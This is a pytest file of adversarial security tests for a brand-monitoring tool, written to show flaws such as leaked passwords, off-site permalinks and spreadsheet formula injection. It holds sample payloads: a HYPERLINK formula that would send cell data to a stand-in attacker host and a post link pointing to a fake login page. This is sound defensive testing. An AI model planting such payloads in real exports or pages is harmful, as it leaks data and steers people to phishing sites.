"""Adversary for issue 14: links, spreadsheet cells and secrets, found broken (each test xfail, strict).

Platform data comes from a real HTTP server on 127.0.0.1 read by a real `hearken run --once`; what a person
sees is read from the dashboard under Streamlit's AppTest and from `hearken` commands' output. Each test
is `xfail(strict=True)` with its finding in one line, so it turns red once the finding is fixed.
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from datetime import datetime, timedelta, timezone
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tests.collector_helpers import LocalServer, Reply
from tests.conftest import MINIMAL_CONFIG, ROOT

APP = str(ROOT / "dashboard" / "app.py")


def hearken(*args: str, env: dict | None = None, timeout: float = 240) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "desk.cli", *args], cwd=ROOT, capture_output=True, text=True,
                          timeout=timeout, env={**os.environ, **(env or {})})


def page(at_path: Path, monkeypatch, page_file: str | None = None, query: dict | None = None):
    """The dashboard on the config at `at_path` (its database beside it), local mode, one page."""
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("HEARKEN_CONFIG", str(at_path))
    monkeypatch.setenv("HEARKEN_DATABASE_URL", f"sqlite:///{at_path.parent / 'hearken.db'}")
    at = AppTest.from_file(APP, default_timeout=60)
    if page_file:
        at.switch_page(page_file)
    for k, v in (query or {}).items():
        at.query_params[k] = v
    return at.run()


def forum_config(tmp_path: Path, pages: list[str], *, permalink: bool = True) -> Path:
    selectors = "{post: div.msg, id_attr: data-id, body: .text, author: .who, time: time" + (
        ', permalink: "a.perma@href"}' if permalink else "}")
    sources = "".join(f"  - {{type: forum, name: board{i}, pages: [\"{p}\"], preset: custom, respect_robots: false, "
                      f"selectors: {selectors}}}\n" for i, p in enumerate(pages))
    path = tmp_path / "hearken.yaml"
    path.write_text(f"brand: {{terms: [\"Northwind\"]}}\nsources:\n{sources}"
                    "team:\n  - {name: Alex Admin, email: alex@example.com, role: admin}\n"
                    f"database: {{url: \"sqlite:///{tmp_path / 'hearken.db'}\"}}\n")
    return path


def post(pid: int, href: str, body: str) -> str:
    stamp = (datetime.now(timezone.utc) - timedelta(minutes=3)).strftime("%Y-%m-%dT%H:%M:%SZ")
    return (f'<div class="msg" data-id="{pid}"><a class="perma" href="{href}">#{pid}</a><span class="who">ann{pid}'
            f'</span><time datetime="{stamp}">x</time><div class="text">{body}</div></div>')


# --- links ---------------------------------------------------------------------------------------------------


def test_a_forum_permalink_to_another_site_is_not_offered_as_the_post_on_the_platform(tmp_path, monkeypatch):
    """The README's own selector (permalink: a.post-link@href) reads a link from inside the post, which the
    page (or a post on it) controls. An http(s) link to evil.example passes the "only http(s)" rule, and
    then the Case page's "Open on the platform", the alert email's "Original post" and the weekly report's
    theme example all send staff to another site as if it were the customer's post. Expected: a permalink
    off the page's own site is replaced by the page's address, with a note, as a javascript: one is."""
    with LocalServer() as server:
        server.route("/board", Reply(200, "<html><body>"
                                          + post(7, "https://evil.example/login?case=7",
                                                 "Northwind charged me twice and support never answers, awful")
                                          + "</body></html>", {"Content-Type": "text/html"}))
        server.route("/based", Reply(200, '<html><head><base href="https://evil.example/"></head><body>'
                                          + post(8, "/t/8", "Northwind broadband has been down for three days, "
                                                            "this is a disgrace and nobody helps")
                                          + "</body></html>", {"Content-Type": "text/html"}))
        path = forum_config(tmp_path, [f"{server.url}/board", f"{server.url}/based"])
        run = hearken("run", "--once", "--config", str(path))
        assert run.returncode == 0, run.stderr[-2000:]
        forum_host = urlsplit(server.url).netloc
    queue = page(path, monkeypatch)
    cases = [int(k.split("-")[1]) for k in (b.key or "" for b in queue.button) if k.startswith("claim-")]
    assert len(cases) == 2, run.stdout  # both posts are complaints with a case
    elsewhere = []
    for cid in cases:
        at = page(path, monkeypatch, "views/case.py", {"id": str(cid)})
        assert not at.exception
        elsewhere += [b.proto.url for b in at.get("link_button") if urlsplit(b.proto.url).netloc != forum_host]
    assert not elsewhere, f"'Open on the platform' leads off {forum_host}: {elsewhere}"


# --- secrets -------------------------------------------------------------------------------------------------


def test_a_password_in_a_configured_address_reaches_no_log_and_no_page(tmp_path, monkeypatch):
    """Private boards behind HTTP basic auth are commonly written user:password@host. The README says secrets
    belong in *_env variables, but a careless operator writes them here, and Hearken then repeats the
    password in every failure: the runner's log line (not only at --verbose), the Sources page's
    "Last error", the source-failing alert email. A URL's password is a secret wherever it comes from."""
    with LocalServer() as server:
        server.route("/down", Reply(503, "maintenance", {}))
        secret_url = server.url.replace("http://", "http://hearken:hunter2-forum-pw@") + "/down"
        path = forum_config(tmp_path, [secret_url], permalink=False)
        run = hearken("run", "--once", "--config", str(path))
    assert "answered HTTP 503" in run.stderr, run.stderr[-2000:]  # the failure is there, loud
    assert "hunter2-forum-pw" not in run.stderr + run.stdout
    at = page(path, monkeypatch, "views/sources.py")
    shown = [t.value for t in at.text] + [m.value for m in at.markdown] + [e.value for e in at.error]
    assert any("503" in s for s in shown), shown
    assert not [s for s in shown if "hunter2-forum-pw" in s]


@pytest.mark.parametrize("url", ["postgresql://hearken@db.internal:5432/hearken?password=hunter2-db",
                                 "postgresql://hearken@db.internal:5432/hearken?pass%77ord=hunter2-db",
                                 "postgresql://hearken:hunter2-db/x#y@db.internal:5432/hearken"])
def test_check_config_prints_no_database_password_given_in_the_query(tmp_path, url):
    """libpq and SQLAlchemy take the password as `?password=` too (its name percent-encoded or not), and
    SQLAlchemy reads a password with / or # in it whole; the output strips only user:pw@."""
    path = tmp_path / "hearken.yaml"
    path.write_text(MINIMAL_CONFIG)
    run = hearken("check-config", "--config", str(path), env={"HEARKEN_DATABASE_URL": url})
    assert "db.internal:5432/hearken" in run.stdout, run.stdout
    assert "hunter2-db" not in run.stdout + run.stderr


# --- spreadsheet cells ---------------------------------------------------------------------------------------


def test_export_labels_writes_no_cell_a_spreadsheet_would_run(tmp_path, monkeypatch):
    """The weekly report's CSV neutralises = + - @ tab CR (OWASP); the labels CSV, the other CSV Hearken
    writes and the one a lead opens to review what staff marked "Not a complaint", does not."""
    from desk.config.schema import load_config
    from desk.store.db import connect
    from tests.e2e_helpers import seed_case

    path = tmp_path / "hearken.yaml"
    path.write_text(MINIMAL_CONFIG)
    cfg, store = load_config(path), connect(f"sqlite:///{tmp_path / 'hearken.db'}")
    formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Northwind refund")'
    cid = seed_case(store, cfg, external_id="f1", body=formula)
    store.close()
    at = page(path, monkeypatch)
    at.button(key=f"dismiss-{cid}").click().run()  # Not a complaint (asks once more): the label export-labels writes
    at.button(key=f"dismiss-{cid}-confirm").click().run()
    assert not at.exception
    out = hearken("export-labels", "--config", str(path), "--out", "-",
                  env={"HEARKEN_DATABASE_URL": f"sqlite:///{tmp_path / 'hearken.db'}"})
    assert out.returncode == 0, out.stderr[-2000:]
    rows = list(csv.reader(io.StringIO(out.stdout)))
    assert len(rows) == 2 and "HYPERLINK" in rows[1][0], rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize("extra, key", [
    pytest.param("alerts:\n  smtp: {host: smtp.example.com, port: 25, security: none, username_env: SMTP_USER, "
                 "password_env: SMTP_PASSWORD}\n", "smtp", id="smtp-login-in-clear"),
    pytest.param("  - {type: discourse, name: community, base_url: 'http://community.example.com', "
                 "api_key_env: DISCOURSE_KEY, api_username_env: DISCOURSE_USER}\n", "discourse", id="http-api-key"),
])
def test_check_config_names_a_secret_that_would_travel_unencrypted(tmp_path, extra, key):
    """smtplib logs in over a plain connection whenever the server offers AUTH, and httpx sends Api-Key to an
    http:// base_url: the password or key crosses the network readable by anyone on the path. Loopback
    (a relay on this machine, a test forum) is fine; another host is a mistake to name, with file and line."""
    text = MINIMAL_CONFIG
    if key == "discourse":
        text = text.replace("  - {type: demo, name: demo, interval_seconds: 1}\n",
                            "  - {type: demo, name: demo, interval_seconds: 1}\n" + extra)
    else:
        text += extra
    path = tmp_path / "hearken.yaml"
    path.write_text(text)
    env = {"SMTP_USER": "hearken", "SMTP_PASSWORD": "smtp-pw-1234", "DISCOURSE_KEY": "key-5678",
           "DISCOURSE_USER": "northwind_team"}
    run = hearken("check-config", "--config", str(path), env=env)
    line = next(i for i, t in enumerate(text.splitlines(), 1) if key in t and ("security" in t or "base_url" in t))
    said = [t for t in run.stdout.splitlines() if t.strip().startswith(f"{path}:{line}:")]
    assert any(re.search(r"(?i)TLS|https|encrypt|plain text|in clear", t) for t in said), run.stdout
